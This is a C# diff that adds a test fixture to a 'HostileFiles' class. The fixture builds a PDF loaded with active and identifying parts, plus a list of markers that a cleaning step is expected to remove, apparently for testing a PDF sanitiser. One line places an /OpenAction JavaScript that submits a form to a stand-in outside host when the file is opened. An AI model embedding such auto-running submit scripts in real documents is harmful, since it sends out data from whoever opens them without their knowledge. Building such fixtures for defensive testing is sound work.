@@ -31,6 +31,60 @@ public static class HostileFiles
         return stream.ToArray();
     }
 
+    /// <summary>Words that must not survive cleaning: each marks one way a PDF can act or name its author.</summary>
+    public static readonly string[] ActivePdfMarkers =
+    [
+        "OPENACTION-SUBMIT", "https://pengintai.example/terima", "PAGE-AA-SCRIPT", "DOC-LEVEL-SCRIPT", "LAMPIRAN-RAHASIA",
+        "Budi Santoso Pelapor", "XMP-HALAMAN", "LINK-URI-KELUAR",
+    ];
+
+    /// <summary>
+    /// A PDF that acts and tells: an /OpenAction JavaScript that submits a form to an outside address, a page /AA
+    /// script, document-level JavaScript, an embedded file, a file-attachment and a text annotation with their
+    /// author, a link to an outside URL, and XMP on a page.
+    /// </summary>
+    public static byte[] ActivePdf()
+    {
+        using var document = new PdfSharp.Pdf.PdfDocument();
+        var page = document.AddPage();
+        PdfSharp.Pdf.PdfDictionary Dict(params (string Key, PdfSharp.Pdf.PdfItem Value)[] items)
+        {
+            var d = new PdfSharp.Pdf.PdfDictionary(document);
+            foreach (var (key, value) in items)
+            {
+                d.Elements[key] = value;
+            }
+            document.Internals.AddObject(d);
+            return d;
+        }
+        PdfSharp.Pdf.PdfItem Name(string n) => new PdfSharp.Pdf.PdfName(n);
+        PdfSharp.Pdf.PdfItem Text(string t) => new PdfSharp.Pdf.PdfString(t);
+        var catalog = document.Internals.Catalog;
+        catalog.Elements["/OpenAction"] = Dict(("/S", Name("/JavaScript")), ("/JS", Text("this.submitForm('https://pengintai.example/terima'); // OPENACTION-SUBMIT"))).Reference;
+        page.Elements["/AA"] = Dict(("/O", Dict(("/S", Name("/JavaScript")), ("/JS", Text("app.alert('PAGE-AA-SCRIPT')"))).Reference!)).Reference;
+        var attached = new PdfSharp.Pdf.PdfDictionary(document);
+        attached.CreateStream(System.Text.Encoding.ASCII.GetBytes("LAMPIRAN-RAHASIA isi berkas tersembunyi"));
+        document.Internals.AddObject(attached);
+        var fileSpec = Dict(("/Type", Name("/Filespec")), ("/F", Text("lampiran.txt")), ("/EF", Dict(("/F", attached.Reference!)).Reference!));
+        var docScript = Dict(("/S", Name("/JavaScript")), ("/JS", Text("app.alert('DOC-LEVEL-SCRIPT')")));
+        var scripts = new PdfSharp.Pdf.PdfArray(document, Text("init"), docScript.Reference!);
+        var files = new PdfSharp.Pdf.PdfArray(document, Text("lampiran.txt"), fileSpec.Reference!);
+        catalog.Elements["/Names"] = Dict(("/JavaScript", Dict(("/Names", scripts)).Reference!), ("/EmbeddedFiles", Dict(("/Names", files)).Reference!)).Reference;
+        var rect = new PdfSharp.Pdf.PdfArray(document, new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(10), new PdfSharp.Pdf.PdfInteger(50), new PdfSharp.Pdf.PdfInteger(50));
+        var note = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/Text")), ("/Rect", rect), ("/T", Text("Budi Santoso Pelapor")), ("/Contents", Text("catatan")));
+        var attachment = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/FileAttachment")), ("/Rect", rect.Clone()), ("/T", Text("Budi Santoso Pelapor")), ("/FS", fileSpec.Reference!));
+        var link = Dict(("/Type", Name("/Annot")), ("/Subtype", Name("/Link")), ("/Rect", rect.Clone()),
+            ("/A", Dict(("/S", Name("/URI")), ("/URI", Text("https://keluar.example/LINK-URI-KELUAR"))).Reference!));
+        page.Elements["/Annots"] = new PdfSharp.Pdf.PdfArray(document, note.Reference!, attachment.Reference!, link.Reference!);
+        var xmp = new PdfSharp.Pdf.PdfDictionary(document);
+        xmp.CreateStream(System.Text.Encoding.UTF8.GetBytes("<x:xmpmeta>XMP-HALAMAN</x:xmpmeta>"));
+        document.Internals.AddObject(xmp);
+        page.Elements["/Metadata"] = xmp.Reference;
+        using var stream = new MemoryStream();
+        document.Save(stream, false);
+        return stream.ToArray();
+    }
+
     private static byte[] Encode(SKEncodedImageFormat format)
     {
         using var bitmap = new SKBitmap(48, 32);
